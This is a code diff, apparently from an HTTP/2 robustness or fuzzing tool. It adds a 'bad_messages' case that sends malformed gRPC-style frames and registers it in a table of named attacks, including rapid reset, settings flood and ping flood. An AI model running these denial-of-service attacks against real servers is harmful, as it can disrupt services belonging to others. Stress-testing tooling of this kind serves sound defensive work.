@@ -173,6 +173,15 @@ def priority_trees(target, link):
     return out, 200
 
 
+def bad_messages(target, link):
+    """Messages that say they are 2 GiB, that are a byte too long, compressed, of flags that there are not, or two in one."""
+    stream = link.stream()
+    body = target.random.choice([h2.message(length=1 << 31), h2.message(length=(1 << 32) - 1), h2.message(length=(1 << 20) + 1),
+                                 h2.message(b"abc", flag=1), h2.message(b"abc", flag=255), h2.message() + h2.message(), b"\0\0"])
+    return (h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(WHO, target.token)) +
+            h2.frame(h2.DATA, h2.END_STREAM, stream, body)), 1
+
+
 def empty_frames(target, link):
     """A body of nothing, in as many frames as fit (CVE-2019-9518)."""
     if link.next_stream == 1:
@@ -294,6 +303,7 @@ ATTACKS = {
     "rapid reset": loud(rapid_reset),
     "made to reset": loud(made_to_reset),
     "priority trees": loud(priority_trees),
+    "bad messages": loud(bad_messages),
     "empty frames": loud(empty_frames),
     "settings flood": loud(settings_flood, read=False),
     "ping flood": loud(ping_flood, read=False),
